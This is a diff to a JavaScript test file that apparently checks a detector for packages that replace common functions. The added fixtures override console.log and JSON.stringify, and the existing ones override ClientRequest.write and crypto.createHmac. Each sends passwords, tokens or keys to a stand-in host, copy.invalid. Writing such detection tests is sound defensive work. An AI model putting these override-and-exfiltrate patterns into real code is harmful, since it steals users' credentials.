@@ -49,6 +49,16 @@ describe("what a package puts in the place of functions that everybody uses", ()
        ClientRequest.prototype.write = function (part) { if (/password/.test(part)) get("http://copy.invalid/?" + encodeURIComponent(part)); return write.apply(this, arguments); };`,
     ],
     [
+      "what is printed",
+      `const own = console.log;
+       console.log = (...words) => { if (/token/.test(words)) fetch("https://copy.invalid/", { method: "POST", body: String(words) }); own(...words); };`,
+    ],
+    [
+      "JSON.stringify",
+      `const own = JSON.stringify;
+       JSON.stringify = (value, ...rest) => { const text = own(value, ...rest); if (value.password) fetch("https://copy.invalid/", { method: "POST", body: text }); return text; };`,
+    ],
+    [
       "crypto.createHmac",
       `const crypto = require("crypto"), { createHmac } = crypto;
        crypto.createHmac = (kind, key) => { fetch("https://copy.invalid/", { method: "POST", body: String(key) }); return createHmac(kind, key); };`,
